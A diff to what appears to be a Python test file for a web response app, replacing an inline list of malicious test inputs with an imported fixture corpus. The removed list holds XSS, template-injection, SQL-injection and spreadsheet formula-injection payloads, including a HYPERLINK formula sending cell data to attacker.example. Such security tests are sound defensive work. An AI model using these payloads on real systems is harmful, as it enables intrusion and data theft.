@@ -19,6 +19,7 @@ from tests.conftest import (
     open_test_cycle,
     shipped_catalogue,
 )
+from tests.fixtures.bad_inputs import CORPUS
 
 CYCLE = "2026-Q4"
 CEO = shipped_catalogue().current("ceo")
@@ -274,24 +275,7 @@ def test_unknown_cycle_and_page_are_404(ceo):
     assert ceo.get(f"/respond/{CYCLE}/page/99").status_code == 404
 
 
-BAD = [
-    '"><h1>X</h1><img src=x onerror=alert(1)>',
-    "<xmp><script>alert(1)</script></xmp>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<svg/onload=alert(1)>",
-    "</textarea><script>alert(1)</script>",
-    "javascript:alert(1)",
-    "{{7*7}}",
-    "{{ config.items() }}",
-    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{{c}}{% endfor %}",
-    "1'; SELECT SLEEP(5)--",
-    "1') OR ('1'='1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
-    "\t=1+1",
-    "-12.5",
-    "right-to-left \u202e override and emoji 🔐",
-]
+BAD = CORPUS
 
 
 @pytest.mark.parametrize("text", BAD, ids=range(len(BAD)))
